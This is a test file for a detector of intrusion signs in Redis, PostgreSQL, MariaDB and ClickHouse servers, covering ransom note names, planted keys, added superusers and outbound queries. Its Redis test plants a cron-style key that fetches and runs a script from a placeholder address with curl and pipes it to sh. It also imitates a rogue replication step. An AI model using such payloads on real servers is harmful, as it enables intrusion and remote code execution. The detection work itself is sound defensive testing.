import { describe, expect, it } from 'vitest';
import { LAB_PASSWORD, LAB_USER, startServer } from '../../../lab/index.ts';
import { withServers } from '../../../lab/testing.ts';
import { ownerOf } from '../../../test/incident.ts';
import { openAsker } from '../ask/index.ts';
import type { Access } from '../ask/asker.ts';
import { lookForSigns } from './look.ts';
import { isNoteName } from './notes.ts';

const idsAt = async (access: Access): Promise<string[]> => {
  const { found, untold } = await lookForSigns(access, () => new Date());
  expect(untold).toEqual([]);
  return found.map(({ id }) => id);
};

describe('names of ransom notes', () => {
  it.each([
    'READ__ME_TO_RECOVER_YOUR_DATA',
    'RREAD_ME_TO_RECOVER_YOUR_DATA',
    'readme_to_recover',
    'RECOVER_YOUR_DATA',
    'read_me_to_recover_database',
    'your_data_is_safe',
    'gk01juo8o3-meow',
    'PLEASE_READ_ME_VVV',
  ])('knows %s', (name) => expect(isNoteName(name)).toBe(true));

  it.each(['customers', 'read_models', 'warnings_sent', 'homeowners', 'data_recovery_jobs'])(
    'passes %s',
    (name) => expect(isNoteName(name)).toBe(false),
  );
});

withServers('redis')('signs in Redis', () => {
  it('are none on a fresh one, and the scar and the keys on one that was visited', async () => {
    await using server = await startServer('redis', 'open');
    const access = ownerOf(server);
    expect(await idsAt(access)).toEqual([]);
    await using stranger = await openAsker(access);
    // What the visit leaves is made on the test's own server, by the documented commands.
    await stranger.ask('REPLICAOF 127.0.0.1 1');
    await stranger.ask('REPLICAOF NO ONE');
    await stranger.ask('SET backup1 */2_*_*_*_*_root_curl_http://198.51.100.7/x|sh');
    await stranger.ask('SET README words');
    await stranger.ask('CONFIG RESETSTAT');
    const seen = ['redis-replication', 'redis-planted-keys', 'redis-notes', 'redis-wiped'];
    expect(await idsAt(access)).toEqual(seen);
  });
});

withServers('postgresql')('signs in PostgreSQL', () => {
  it('name an added superuser, a table for commands and a note', async () => {
    await using server = await startServer('postgresql', 'password');
    const access = ownerOf(server, { user: LAB_USER, password: LAB_PASSWORD });
    // The lab's own account is one, and an owner knows it.
    expect(await idsAt(access)).toEqual(['postgresql-superusers']);
    await using stranger = await openAsker(access);
    await stranger.ask('CREATE TABLE cmd_exec (cmd_output text)');
    await stranger.ask('CREATE TABLE readme_to_recover (text_field text)');
    const seen = ['postgresql-superusers', 'postgresql-commands', 'postgresql-notes'];
    expect(await idsAt(access)).toEqual(seen);
  });
});

withServers('mariadb')('signs in MariaDB', () => {
  it('name a note and accounts from elsewhere', async () => {
    await using server = await startServer('mariadb', 'password');
    const access = ownerOf(server, { user: LAB_USER, password: LAB_PASSWORD });
    await using stranger = await openAsker(access);
    await stranger.ask('CREATE TABLE shop.WARNING (id int, warning text)');
    expect(await idsAt(access)).toEqual(['mariadb-superusers', 'mariadb-notes']);
  });
});

withServers('clickhouse')('signs in ClickHouse', () => {
  it('name a query that reaches out, by the address that it came from', async () => {
    await using server = await startServer('clickhouse', 'open', { settings: { rows: '10' } });
    const access = ownerOf(server);
    const url = `http://${server.address}:${server.port}/?query=`;
    const seen = async () =>
      (await lookForSigns(access, () => new Date())).found.map(({ id }) => id);
    const reach = `SELECT * FROM remote('${server.address}:${server.ports['native']}', system.one)`;
    expect((await fetch(`${url}${encodeURIComponent(reach)}`)).status).toBe(200);
    // The log is written every half second, and its table made by the first line.
    await expect.poll(seen, { timeout: 10_000 }).toEqual(['clickhouse-outbound']);
    const { found } = await lookForSigns(access, () => new Date());
    expect(found[0]?.evidence.join()).toMatch(/^remote from (?:::ffff:)?127\./);
  });
});
